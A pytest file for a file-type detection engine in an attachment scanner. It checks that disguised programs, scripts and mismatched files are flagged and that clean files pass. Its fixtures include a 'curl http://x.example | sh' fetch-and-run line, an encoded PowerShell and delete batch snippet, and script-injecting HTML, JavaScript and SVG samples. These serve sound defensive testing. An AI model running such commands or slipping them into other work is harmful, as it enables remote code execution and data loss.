"""File-type engine: Magika detection with structural corrections, and the extension checks.

Fixtures are built here; programs come from Debian's clamav-testfiles and /bin/true. Magika
labels observed (magika 1.0.3, standard_v3_3) are noted where a test depends on them.
"""

from __future__ import annotations

import io
import random
import struct
import wave
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from types import SimpleNamespace

import pytest
from PIL import Image

from attachguard.codes import Code, FindingCode
from attachguard.engines.base import Item
from attachguard.engines.filetype import FileTypeEngine, _filetype, sniff_program
from attachguard.policy import Policy
from attachguard.report import Finding

CLAM_EXE = Path("/usr/share/clamav-testfiles/clam.exe")
ELF = Path("/bin/true")
needs_clam = pytest.mark.skipif(not CLAM_EXE.exists(), reason="clamav-testfiles not installed")


@pytest.fixture(scope="module")
def engine() -> FileTypeEngine:
    return FileTypeEngine()


def scan(
    engine: FileTypeEngine, policy: Policy, name: str, data: bytes, depth: int = 0
) -> list[Finding]:
    item = Item(name, data, engine.detect(data), depth)
    return engine.scan(item, policy.context()).findings


def codes(findings: list[Finding]) -> set[Code]:
    return {f.code for f in findings}


# --- fixture builders ---------------------------------------------------------------------


def image_bytes(fmt: str, size: tuple[int, int] = (160, 120)) -> bytes:
    img = Image.new("RGB", size)
    for x in range(size[0]):  # some structure, so encoders produce typical streams
        img.putpixel((x, x % size[1]), (x % 256, 80, 160))
    buf = io.BytesIO()
    if fmt == "HEIF":
        import pillow_heif

        pillow_heif.register_heif_opener()
    img.save(buf, fmt)
    return buf.getvalue()


_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.'
    'openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="'
    'application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
    'ContentType="application/xml"/><Override PartName="/{part}" ContentType="{ct}"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://'
    'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http'
    '://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="{part}"/></Relationships>'
)
_OOXML = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}


def ooxml(kind: str) -> bytes:
    """A small but well-formed Office Open XML package, laid out the way Office writes it."""
    part, ct = _OOXML[kind]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        ct_full = f"application/vnd.openxmlformats-officedocument.{ct}"
        z.writestr("[Content_Types].xml", _CT.format(part=part, ct=ct_full))
        z.writestr("_rels/.rels", _RELS.format(part=part))
        z.writestr(part, '<?xml version="1.0"?><root>Returns are accepted within 30 days.</root>')
        z.writestr("docProps/app.xml", "<Properties><Application>Microsoft Office</Application>")
    return buf.getvalue()


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def iso_media(brand: bytes) -> bytes:
    """An ISO media file (ftyp, moov with a header, mdat): the shape of a phone video."""
    ftyp = box(b"ftyp", brand + b"\0\0\2\0" + brand + b"isomavc1mp41")
    mvhd = box(b"mvhd", b"\0" * 4 + struct.pack(">IIII", 0, 0, 1000, 5000) + b"\0" * 80)
    moov = box(b"moov", mvhd + box(b"trak", box(b"tkhd", b"\0" * 84)))
    return ftyp + moov + box(b"mdat", random.Random(7).randbytes(20_000))


def wav_bytes() -> bytes:
    buf = io.BytesIO()
    with wave.open(buf, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(b"\0\1" * 8000)
    return buf.getvalue()


HTML = b"<html><body><h1>Order</h1><script>document.location='http://x.example'</script></body></html>\n"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>alert(1)</script><rect width="10" height="10"/></svg>\n'
)
LETTER = b"Dear support,\n\nMy parcel arrived broken. The order number is 12345.\n\nThanks, Ann\n"
CSV = b"name,amount,date\nAlice,12.50,2024-01-01\nBob,-3.20,2024-01-02\n"


# --- clean files of every allowed type ------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build", "label"),
    [
        ("photo.jpg", lambda: image_bytes("JPEG"), "jpeg"),
        ("photo.JPEG", lambda: image_bytes("JPEG"), "jpeg"),
        ("photo.jfif", lambda: image_bytes("JPEG"), "jpeg"),  # .jfif is a JPEG by another name
        ("photo.png", lambda: image_bytes("PNG"), "png"),
        ("photo.heic", lambda: image_bytes("HEIF"), "heif"),  # Magika alone says mp4 (~0.51)
        ("letter.docx", lambda: ooxml("docx"), "docx"),
        ("sheet.xlsx", lambda: ooxml("xlsx"), "xlsx"),
        ("slides.pptx", lambda: ooxml("pptx"), "pptx"),
        ("clip.mp4", lambda: iso_media(b"isom"), "mp4"),
        ("clip.mov", lambda: iso_media(b"qt  "), None),  # Magika: mp4 or qt, weakly
        ("voice.wav", wav_bytes, "wav"),
        ("letter.txt", lambda: LETTER, "txt"),
        ("orders.csv", lambda: CSV, "csv"),
        ("note.txt", lambda: b"ok", "txt"),  # too small for the model: Magika's text fallback
        ("policy.rtf", lambda: b"{\\rtf1\\ansi Returns within 30 days.\\par}", "rtf"),
        ("old.doc", lambda: b"{\\rtf1\\ansi Returns within 30 days.\\par}", "rtf"),  # Word opens it
        # Word and PowerPoint open OOXML under the legacy names by content (precision 90)
        ("letter.doc", lambda: ooxml("docx"), "docx"),
        ("slides.ppt", lambda: ooxml("pptx"), "pptx"),
    ],
)
def test_clean_files_have_no_findings(
    engine: FileTypeEngine, policy: Policy, name: str, build: Callable[[], bytes], label: str | None
) -> None:
    data = build()
    detected = engine.detect(data)
    if label:
        assert detected.label == label
    assert scan(engine, policy, name, data) == []


def test_heic_is_detected_as_heif_from_its_brand(engine: FileTypeEngine) -> None:
    detected = engine.detect(image_bytes("HEIF"))
    assert (detected.label, detected.group, detected.mime) == ("heif", "image", "image/heic")


def test_office_package_that_magika_calls_zip_is_recognised(
    engine: FileTypeEngine, policy: Policy
) -> None:
    # Large random members push Office's part names out of Magika's view: it says zip/unknown.
    rnd = random.Random(3)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("photos/a.dat", rnd.randbytes(3000))
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("photos/b.dat", rnd.randbytes(3000))
    data = buf.getvalue()
    assert str(engine._magika().identify_bytes(data).output.label) in {"zip", "unknown"}
    assert engine.detect(data).label == "xlsx"
    assert scan(engine, policy, "sheet.xlsx", data) == []


_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
_OPENXML = "application/vnd.openxmlformats-officedocument."


def package_with_main_at(part: str, content_type: str, rels_target: str | None = None) -> bytes:
    """An OOXML package whose main part is ``part`` (found through the root relationships),
    declared ``content_type``, behind random members that keep Magika from seeing it."""
    rnd = random.Random(5)
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        f'relationships+xml"/><Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    )
    rels = (
        f'<Relationships xmlns="{_RELS}"><Relationship Id="rId1" Type="{_MAIN}" '
        f'Target="{rels_target or part}"/></Relationships>'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("photos/a.dat", rnd.randbytes(3000))
        z.writestr("[Content_Types].xml", types)
        z.writestr("_rels/.rels", rels)
        z.writestr(part, "<main/>")
        z.writestr("photos/b.dat", rnd.randbytes(3000))
    return buf.getvalue()


@pytest.mark.parametrize(
    ("part", "content_type", "label"),
    [
        ("workbook.xml", f"{_OPENXML}spreadsheetml.sheet.main+xml", "xlsx"),
        ("word/document2.xml", f"{_OPENXML}wordprocessingml.document.main+xml", "docx"),
        ("ppt/deck.xml", f"{_OPENXML}presentationml.presentation.main+xml", "pptx"),
        ("xl/book.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xlsb"),
    ],
)
def test_a_main_part_elsewhere_is_found_through_the_root_relationships(
    engine: FileTypeEngine, part: str, content_type: str, label: str
) -> None:
    # Office opens the part the officeDocument relationship names, wherever it lies
    data = package_with_main_at(part, content_type)
    assert str(engine._magika().identify_bytes(data).output.label) in {"zip", "unknown"}
    assert engine.detect(data).label == label


def test_a_package_whose_relationships_name_no_main_part_stays_a_zip(
    engine: FileTypeEngine,
) -> None:
    missing = package_with_main_at("workbook.xml", f"{_OPENXML}spreadsheetml.sheet.main+xml", "x")
    assert engine.detect(missing).label in {"zip", "unknown"}
    other = package_with_main_at("workbook.xml", "application/xml")
    assert engine.detect(other).label in {"zip", "unknown"}


# --- programs, scripts, archives ------------------------------------------------------------


@needs_clam
def test_windows_program_named_pdf(engine: FileTypeEngine, policy: Policy) -> None:
    findings = scan(engine, policy, "invoice.pdf", CLAM_EXE.read_bytes())
    # one reason, not two: the disguise is named in the EXECUTABLE finding
    assert [(f.code, f.message) for f in findings] == [
        (FindingCode.EXECUTABLE, "Windows program (.exe) disguised as a .pdf file")
    ]


@needs_clam
def test_truncated_windows_program_is_still_a_program(
    engine: FileTypeEngine, policy: Policy
) -> None:
    head = CLAM_EXE.read_bytes()[:120]  # Magika: coff, score ~0.56
    assert FindingCode.EXECUTABLE in codes(scan(engine, policy, "a.pdf", head))


def test_linux_program_named_jpg(engine: FileTypeEngine, policy: Policy) -> None:
    findings = scan(engine, policy, "photo.jpg", ELF.read_bytes())
    assert codes(findings) == {FindingCode.EXECUTABLE}
    assert "Linux program disguised as a .jpg file" in {f.message for f in findings}


def test_tiny_elf_header_magika_calls_text(engine: FileTypeEngine, policy: Policy) -> None:
    head = ELF.read_bytes()[:64]
    assert str(engine._magika().identify_bytes(head).output.label) == "txt"  # Magika misses it
    assert engine.detect(head).label == "elf"
    assert FindingCode.EXECUTABLE in codes(scan(engine, policy, "note.txt", head))


def test_shebang_script_named_txt(engine: FileTypeEngine, policy: Policy) -> None:
    findings = scan(engine, policy, "readme.txt", b"#!/bin/sh\ncurl http://x.example | sh\n")
    assert FindingCode.EXECUTABLE in codes(findings)


def test_text_starting_with_mz_is_not_a_program(engine: FileTypeEngine, policy: Policy) -> None:
    data = b"MZ Logistics - delivery note for order 4711, two boxes, signed by the driver.\n" * 2
    assert sniff_program(data) is None
    assert scan(engine, policy, "note.txt", data) == []


@pytest.mark.parametrize(
    ("name", "data", "label"),
    [
        ("page.txt", HTML, "html"),
        ("image.png", SVG, "svg"),
        ("run.txt", b"@echo off\r\npowershell -enc AAAA\r\ndel C:\\x\r\n", "batch"),
        (
            "notes.txt",
            b'var s = document.createElement("script"); s.src = "http://e/x.js";\n',
            None,
        ),
    ],
)
def test_scripts_and_active_markup(
    engine: FileTypeEngine, policy: Policy, name: str, data: bytes, label: str | None
) -> None:
    if label:
        assert engine.detect(data).label == label
    findings = scan(engine, policy, name, data)
    assert codes(findings) == {FindingCode.SCRIPT}
    assert any("disguised as a" in f.message for f in findings if f.code is FindingCode.SCRIPT)


def test_plain_zip_named_docx(engine: FileTypeEngine, policy: Policy) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("invoice.txt", "hello " * 100)
        z.writestr("photo.txt", "x" * 1000)
    findings = scan(engine, policy, "report.docx", buf.getvalue())  # Magika: zip
    assert codes(findings) == {FindingCode.TYPE_MISMATCH, FindingCode.ARCHIVE}
    assert "a ZIP archive named .docx" in {f.message for f in findings}


def test_archive_allowed_when_the_operator_allows_its_extension(
    engine: FileTypeEngine, policy: Policy
) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.txt", "hello " * 100)
    data = buf.getvalue()
    assert codes(scan(engine, policy, "files.zip", data)) == {
        FindingCode.EXTENSION_NOT_ALLOWED,
        FindingCode.ARCHIVE,
    }
    allowing = policy.model_copy(
        update={"allowed_extensions": [*policy.allowed_extensions, ".zip"]}
    )
    assert scan(engine, allowing, "files.zip", data) == []


# --- extensions, mismatches, empty ----------------------------------------------------------


def test_extension_not_allowed(engine: FileTypeEngine, policy: Policy) -> None:
    findings = scan(engine, policy, "notes.md", LETTER)
    assert [f.message for f in findings] == ["'.md' files are not allowed"]


def test_no_extension_is_not_allowed(engine: FileTypeEngine, policy: Policy) -> None:
    findings = scan(engine, policy, "README", LETTER)
    assert codes(findings) == {FindingCode.EXTENSION_NOT_ALLOWED}
    assert findings[0].message == "files without an extension are not allowed"


def test_photo_formats_are_interchangeable(engine: FileTypeEngine, policy: Policy) -> None:
    # apps save PNG under .jpg; both are decoded and moderated as images whatever the name
    assert scan(engine, policy, "photo.jpg", image_bytes("PNG")) == []
    assert scan(engine, policy, "photo.png", image_bytes("JPEG")) == []
    findings = scan(engine, policy, "photo.jpg", b"%PDF-1.7\n" + LETTER)
    assert codes(findings) == {FindingCode.TYPE_MISMATCH}


def test_a_workbook_named_xls_is_a_mismatch(engine: FileTypeEngine, policy: Policy) -> None:
    # Excel warns that the format and the extension differ: .xls stays strict
    findings = scan(engine, policy, "sheet.xls", ooxml("xlsx"))
    assert [f.code for f in findings] == [FindingCode.TYPE_MISMATCH]


def test_text_named_pdf_is_a_mismatch(engine: FileTypeEngine, policy: Policy) -> None:
    assert codes(scan(engine, policy, "contract.pdf", LETTER)) == {FindingCode.TYPE_MISMATCH}


def test_unrecognised_binary_under_a_binary_extension_fails_closed(
    engine: FileTypeEngine, policy: Policy
) -> None:
    data = random.Random(5).randbytes(5000)
    assert engine.detect(data).label == "unknown"
    findings = scan(engine, policy, "scan.pdf", data)
    assert [f.message for f in findings] == ["content not recognised as a PDF document (.pdf)"]


def test_binary_named_txt_is_a_mismatch(engine: FileTypeEngine, policy: Policy) -> None:
    findings = scan(engine, policy, "notes.txt", random.Random(5).randbytes(5000))
    assert [f.message for f in findings] == ["unrecognised binary data named .txt"]


# A customer's note or export in the code page of a Windows set up for their language: not
# UTF-8, so Magika places it at random ("unknown" for some, a text label for others)
_NOTE = (
    "您好，我的包裹在運送途中損壞了。訂單號碼 12345，請協助退貨與退款。謝謝！\n" * 8,  # noqa: RUF001
    "안녕하세요. 주문한 물건이 파손되어 도착했습니다. 주문 번호 12345, 환불 부탁드립니다.\n" * 8,
    "مرحبا، وصل الطرد تالفا. رقم الطلب 12345، أرجو استرداد المبلغ. شكرا لكم\n" * 8,
    "Здравствуйте, посылка пришла повреждённой. Номер заказа 12345, прошу вернуть деньги.\n" * 8,
)


@pytest.mark.parametrize(
    ("text", "codec"),
    [(_NOTE[0], "big5"), (_NOTE[0], "gb18030"), (_NOTE[1], "euc_kr"), (_NOTE[1], "johab"),
     (_NOTE[2], "cp1256"), (_NOTE[3], "cp1251"), (_NOTE[0], "shift_jis_2004")],
)  # fmt: skip
def test_text_in_a_legacy_code_page_is_text(
    engine: FileTypeEngine, policy: Policy, text: str, codec: str
) -> None:
    if codec == "shift_jis_2004":
        text = (
            "お世話になります。荷物が壊れて届きました。注文番号 12345、返金をお願いします。\n" * 8
        )
    data = text.encode(codec)
    assert engine.detect(data).label in ("txt", "csv")  # whatever Magika said, text
    assert scan(engine, policy, "note.txt", data) == []
    assert scan(engine, policy, "note.csv", data) == []


def test_bytes_with_a_control_character_are_not_text(
    engine: FileTypeEngine, policy: Policy
) -> None:
    # the same note with one NUL, or binary data without any byte under 0x20 but one: binary
    data = _NOTE[0].encode("big5")
    for changed in (data[:100] + b"\x00" + data[100:], bytes(range(0x7F, 0x100)) * 20 + b"\x01"):
        assert engine.detect(changed).label != "txt"
        assert codes(scan(engine, policy, "note.txt", changed)) == {FindingCode.TYPE_MISMATCH}


def _magika_says(
    engine: FileTypeEngine, monkeypatch: pytest.MonkeyPatch, label: str, group: str
) -> None:
    """Magika's answer pinned: what a model may say of some file, which another model may not."""
    answer = SimpleNamespace(output=SimpleNamespace(label=label, group=group), score=0.99)
    monkeypatch.setattr(engine._magika(), "identify_bytes", lambda _data: answer)


def test_an_archive_label_on_plain_text_is_not_believed(
    engine: FileTypeEngine, policy: Policy, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Magika called a table of numbers a NumPy archive (0.99) and a UTF-8 tree of names a
    Snap package: no archive or program is without a control byte, so the bytes are text.
    (Pinned by the model's answer, which a new model may not repeat.)"""
    table = b"".join(
        b" ".join(b"%.18e" % ((i * 7 + j) % 2) for j in range(12)) + b"\n" for i in range(40)
    )
    for label, group in (("npz", "archive"), ("snap", "archive"), ("pebin", "executable")):
        _magika_says(engine, monkeypatch, label, group)
        assert engine.detect(table).label == "txt", label
        assert scan(engine, policy, "matrix.txt", table) == []
        binary = b"\x00\x01\x02\x03" + table
        # a control byte: the guess stands, but a program's needs its loader's header ("MZ")
        assert engine.detect(binary).label == ("unknown" if label == "pebin" else label)


def test_a_mail_message_magika_calls_a_web_archive_stays_one(
    engine: FileTypeEngine, policy: Policy, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Magika calls multipart mail "mht" (a saved web page). Reading the parts to find no page
    was tried and dropped: a comment in a Content-Type, a second header, a part typed
    octet-stream but located at .htm hid the HTML part from Python's mail parser, not from a
    browser. The label stands, with or without an HTML part."""
    head = b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n'
    part = b"--B\nContent-Type: %s\n\n%s\n"
    plain = head + part % (b"text/plain", b"My parcel arrived broken.") + b"--B--\n"
    _magika_says(engine, monkeypatch, "mht", "code")
    assert engine.detect(plain).label == "mht"
    assert codes(scan(engine, policy, "message.txt", plain)) == {FindingCode.SCRIPT}


def test_operator_added_extension_uses_magikas_extension_table(
    engine: FileTypeEngine, policy: Policy
) -> None:
    allowing = policy.model_copy(
        update={"allowed_extensions": [*policy.allowed_extensions, ".gif"]}
    )
    assert scan(engine, allowing, "anim.gif", image_bytes("GIF")) == []
    assert codes(scan(engine, allowing, "anim.gif", image_bytes("PNG"))) == {
        FindingCode.TYPE_MISMATCH
    }


def test_empty_file(engine: FileTypeEngine, policy: Policy) -> None:
    # an empty note is a note; no PDF, document or picture has zero bytes
    findings = scan(engine, policy, "empty.txt", b"")
    assert [(f.code, f.code.kind) for f in findings] == [(FindingCode.EMPTY_FILE, "info")]
    for name in ("empty.pdf", "empty.docx", "empty.jpg"):
        findings = scan(engine, policy, name, b"")
        assert [f.code for f in findings] == [FindingCode.TYPE_MISMATCH], name
        assert "empty file" in findings[0].message


# --- things inside other files ---------------------------------------------------------------


@needs_clam
def test_children_skip_name_checks_but_not_programs_or_scripts(
    engine: FileTypeEngine, policy: Policy
) -> None:
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as z:
        z.writestr("a.txt", "hello " * 100)
    # Office embeddings and media: any content, any name, no extension rules.
    assert scan(engine, policy, "word/embeddings/oleObject1.bin", zipped.getvalue(), 1) == []
    assert scan(engine, policy, "word/media/image1.png", image_bytes("JPEG"), 1) == []
    assert scan(engine, policy, "word/media/image2.svg", SVG, 1) == []  # Office writes SVGs
    exe = scan(engine, policy, "word/media/payload.png", CLAM_EXE.read_bytes(), 1)
    assert [(f.code, f.message) for f in exe] == [
        (FindingCode.EXECUTABLE, "Windows program (.exe)")
    ]
    assert codes(scan(engine, policy, "attachment:page.html", HTML, 1)) == {FindingCode.SCRIPT}


def test_detect_is_safe_from_many_threads(engine: FileTypeEngine) -> None:
    samples = [image_bytes("PNG"), LETTER, ELF.read_bytes(), ooxml("docx")]
    expected = [engine.detect(s).label for s in samples]
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(lambda i: engine.detect(samples[i % 4]).label, range(40)))
    assert results == expected * 10


def test_version_names_magika_and_model(engine: FileTypeEngine) -> None:
    assert engine.version().startswith("magika ") and "standard_v3" in engine.version()


def test_an_ftyp_header_does_not_turn_a_zip_into_a_video(
    engine: FileTypeEngine, policy: Policy
) -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("invoice.exe", b"MZ" + b"\x00" * 200)
    data = b"\x00\x00\x00\x14ftypisom\x00\x00\x02\x00isom" + archive.getvalue()
    detected = engine.detect(data)
    assert detected.label == "zip"
    assert FindingCode.TYPE_MISMATCH in codes(scan(engine, policy, "clip.mp4", data))


def test_unsupported_zip_version_is_not_a_crash(engine: FileTypeEngine) -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    data = bytearray(archive.getvalue())
    central = data.find(b"PK\x01\x02")
    data[central + 6] = 0xBE  # "version needed to extract": 19.0, zipfile raises NotImplemented
    assert engine.detect(bytes(data)).label in {"zip", "unknown", "docx"}


def test_archives_nested_in_documents_that_are_not_unpacked_are_flagged(
    engine: FileTypeEngine, policy: Policy
) -> None:
    import gzip

    packed = gzip.compress(b"MZ" + b"\x90" * 4000)
    assert engine.detect(packed).label == "gzip"
    findings = scan(engine, policy, "word/media/a.gz", packed, depth=1)
    assert [(f.code, f.message) for f in findings] == [
        (FindingCode.ARCHIVE, "gzip archive that cannot be inspected")
    ]
    nested_zip = io.BytesIO()
    with zipfile.ZipFile(nested_zip, "w") as z:
        z.writestr("a.txt", "hello")
    assert scan(engine, policy, "word/media/a.zip", nested_zip.getvalue(), depth=1) == []


@pytest.mark.parametrize("label", ["onnx", "npy", "h5", "cdf"])
def test_data_formats_magika_files_as_archives_hold_no_file_in_a_document(
    engine: FileTypeEngine, policy: Policy, label: str
) -> None:
    """A model, an array or a data set holds no file a reader could take out: inside a
    document such a label is a guess on binary data (Google Slides' protobuf metadata part was
    called ONNX), and no reader opens the part; a gzip there stays an archive."""
    from attachguard.engines.filetype import _filetype

    item = Item("ppt/metadata", b"\x08\x07\x12\x04part", _filetype(label, 0.9), 1)
    assert item.type.group == "archive"
    assert engine.scan(item, policy.context()).findings == []


# -- the file's own structure over Magika's guess ---------------------------------------------


def test_archive_label_without_the_archive_signature_is_not_believed(
    engine: FileTypeEngine,
) -> None:
    # a Windows printer's DEVMODE settings, as Excel stores them in xl/printerSettings/: Magika
    # has called such a blob "iso" (an ISO 9660 image has "CD001" at 0x8001)
    devmode = b"HP LaserJet".ljust(64, b"\0") + bytes(range(256)) * 16
    assert engine.detect(devmode).label != "iso"
    iso = bytearray(0x9000)
    iso[0x8001:0x8006] = b"CD001"
    from attachguard.engines.filetype_structure import structure

    assert structure(bytes(iso), "iso") is None  # the signature is there: the label stands
    assert structure(devmode, "iso") == "unknown"


def test_shortcut_label_without_the_shortcut_header_is_not_believed() -> None:
    """Precision 90: Magika called one printer-settings part in a hundred "lnk" (POI's
    conditional_formatting_*.xlsx): a shortcut starts with its header size and class id."""
    from attachguard.engines.filetype_structure import structure

    devmode = "Microsoft Print to PDF".encode("utf-16-le").ljust(64, b"\0") + bytes(range(200))
    assert structure(devmode, "lnk") == "unknown"
    shortcut = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)
    assert structure(shortcut, "lnk") is None  # a shortcut: the label stands


def _afcp(data: bytes) -> bytes:
    """``data`` with an AFCP trailer (IPTC data, as news agencies' tools append it)."""
    start, payload = len(data), b"\x1c\x02\x05\x00\x05Title" * 4
    header = b"AXS!" + struct.pack(">HH", 1, 1) + bytes(4)
    entry = b"IPTC" + struct.pack(">II", len(payload), start + 12 + 12)
    return data + header + entry + payload + b"AXS!" + struct.pack(">I", start) + bytes(4)


def test_a_jpeg_to_its_last_byte_is_a_jpeg_whatever_magika_guesses(
    engine: FileTypeEngine, policy: Policy
) -> None:
    """Hunt 117: Magika called a tiny JPEG with an AFCP trailer "hlp" (TYPE_MISMATCH); a JPEG
    that walks to its end, then only padding or trailers ExifTool reads, is a JPEG. Any other
    data after its end leaves Magika's label (and the polyglot engine judges it)."""
    from attachguard.engines.filetype_structure import structure

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, "JPEG")
    picture = buffer.getvalue()
    assert structure(_afcp(picture), "hlp") == "jpeg"
    assert structure(picture + bytes(64), "hlp") == "jpeg"  # padding
    assert structure(picture + b"PK\x03\x04" + bytes(40), "zip") is None
    assert structure(picture[:-2], "hlp") is None  # no end marker: not walked to its end
    item = Item("photo.jpg", _afcp(picture), engine.detect(_afcp(picture)))
    assert item.type.label == "jpeg"
    assert engine.scan(item, policy.context()).findings == []


@pytest.mark.parametrize("encoding", ["utf-16-be", "utf-16-le", "utf-32-be", "utf-32-le"])
def test_text_with_a_byte_order_mark_is_text(
    engine: FileTypeEngine, policy: Policy, encoding: str
) -> None:
    text = "Order 4711: two chairs, one table.\nDelivery on Monday.\n"
    data = ("\ufeff" + text).encode(encoding)
    assert engine.detect(data).is_text
    assert scan(engine, policy, "order.txt", data) == []


def test_a_one_line_note_is_text(engine: FileTypeEngine, policy: Policy) -> None:
    data = b"This is a text file only."
    assert scan(engine, policy, "note.txt", data) == []
    # binary bytes under .txt stay a mismatch
    assert codes(scan(engine, policy, "note.txt", bytes(range(256)))) == {FindingCode.TYPE_MISMATCH}


def test_ole_containers_are_named_by_their_streams(engine: FileTypeEngine) -> None:
    from support.oletools_data import ole_file

    word = ole_file({"WordDocument": b"\0" * 600, "1Table": b"\0" * 600})
    assert engine.detect(word).label == "doc"
    other = ole_file({"Contents": b"\0" * 600})
    assert engine.detect(other).label == "compound"


def test_wav_is_read_from_its_riff_header(engine: FileTypeEngine) -> None:
    import struct

    # WAVE_FORMAT_EXTENSIBLE, 24-bit, 6 channels: Magika has called such files text or BMP
    fmt = struct.pack(
        "<HHIIHHHHIH14s", 0xFFFE, 6, 48000, 48000 * 18, 18, 24, 22, 24, 0x3F, 1, b"\0" * 14
    )
    body = b"WAVE" + b"fmt " + struct.pack("<I", len(fmt)) + fmt + b"data" + struct.pack("<I", 1800)
    data = b"RIFF" + struct.pack("<I", len(body) + 1800) + body + bytes(1800)
    assert engine.detect(data).label == "wav"


@pytest.mark.parametrize("label", ["postscript", "scheme", "crt", "ada", "pdf"])
@pytest.mark.parametrize("name", ["notes.txt", "orders.csv"])
def test_text_under_a_text_extension_fits_whatever_magika_guesses(
    engine: FileTypeEngine, policy: Policy, label: str, name: str
) -> None:
    # Magika's finer labels on prose are guesses: pdfminer.six's cmap README, quoting Adobe's
    # "%%Copyright:" lines, came out "postscript" and was a TYPE_MISMATCH (hunt 105)
    data = b"README for the character maps\n%%Copyright: Adobe Systems Incorporated.\n"
    item = Item(name, data, _filetype(label, 0.9))
    assert engine.scan(item, policy.context()).findings == []


@pytest.mark.parametrize(
    ("name", "label", "data", "code"),
    [
        ("notes.txt", "html", b"<html><body><script>alert(1)</script></body></html>", "SCRIPT"),
        ("notes.txt", "postscript", b"%!PS-Adobe-3.0\n\x00\x01\x02 binary", "TYPE_MISMATCH"),
        ("orders.csv", "postscript", b'ID;PWXL;N;E\nC;Y1;X1;K"x"\nE\n', "TYPE_MISMATCH"),
    ],
    ids=["script", "control-bytes", "sylk"],
)
def test_a_script_or_binary_under_a_text_extension_is_still_a_mismatch(
    engine: FileTypeEngine, policy: Policy, name: str, label: str, data: bytes, code: str
) -> None:
    item = Item(name, data, _filetype(label, 0.9))  # the SYLK case: Excel reads it by content
    assert codes(engine.scan(item, policy.context()).findings) == {FindingCode[code]}
